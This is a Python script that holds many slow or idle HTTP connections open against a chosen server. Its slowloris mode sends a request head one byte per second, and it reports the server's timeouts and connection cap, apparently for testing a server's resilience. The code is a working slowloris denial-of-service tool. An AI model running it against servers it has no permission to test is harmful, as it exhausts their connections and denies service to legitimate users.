#!/usr/bin/env python3
"""attack.py MODE HOST PORT COUNT SECONDS

Holds COUNT connections to the server for SECONDS, reopening any the server closes, and
prints one JSON line of what the server did to them:
  slowloris  each connection sends a request head one byte a second and never finishes it;
  idle       each connection sends one complete request, reads the answer, then stays open
             and silent (an idle keep-alive connection).
Reports how many were opened, refused, closed by the server, and after how long (p50/max):
the header read timeout shows as the slowloris lifetime, the idle timeout as the idle one,
the connection cap as refusals.
"""
import asyncio
import json
import sys
import time

HEAD = b"GET /ocsp/MFQwUjBQME4wTDAJBgUrDgMCGgUABBQ HTTP/1.1\r\nHost: x\r\nUser-Agent: slow\r\n" + b"X-a: b\r\n" * 200


async def one(mode, host, port, stop_at, stats):
    while time.monotonic() < stop_at:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["refused"] += 1
            await asyncio.sleep(1)
            continue
        stats["opened"] += 1
        opened = time.monotonic()
        closed = False
        try:
            if mode == "idle":
                writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
                await writer.drain()
                head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower()
                length = next((int(l.split(":", 1)[1]) for l in head.split("\r\n") if l.startswith("content-length:")), 0)
                await reader.readexactly(length)
                stats["answered"] += 1
                # Idle until the server closes or the run ends (one wait, no polling).
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=max(0.0, stop_at - time.monotonic()))
                    closed = not data
                except asyncio.TimeoutError:
                    pass
            else:
                # A byte a second; a closed connection shows on the next write.
                i = 0
                while time.monotonic() < stop_at:
                    writer.write(HEAD[i % len(HEAD):i % len(HEAD) + 1])
                    i += 1
                    await writer.drain()
                    await asyncio.sleep(1)
                    if reader.at_eof():
                        closed = True
                        break
        except (OSError, asyncio.IncompleteReadError):
            closed = True
        if closed:
            stats["closed"] += 1
            stats["lifetimes"].append(time.monotonic() - opened)
        try:
            writer.close()
        except OSError:
            pass


async def main():
    mode, host, port, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    stats = {"opened": 0, "refused": 0, "closed": 0, "answered": 0, "lifetimes": []}
    stop_at = time.monotonic() + seconds
    tasks = []
    for _ in range(count):
        tasks.append(asyncio.create_task(one(mode, host, port, stop_at, stats)))
        await asyncio.sleep(0.001)
    await asyncio.gather(*tasks)
    life = sorted(stats.pop("lifetimes"))
    stats["mode"] = mode
    stats["connections"] = count
    stats["closed_after_p50_s"] = round(life[len(life) // 2], 1) if life else None
    stats["closed_after_max_s"] = round(life[-1], 1) if life else None
    print(json.dumps(stats))


if __name__ == "__main__":
    asyncio.run(main())
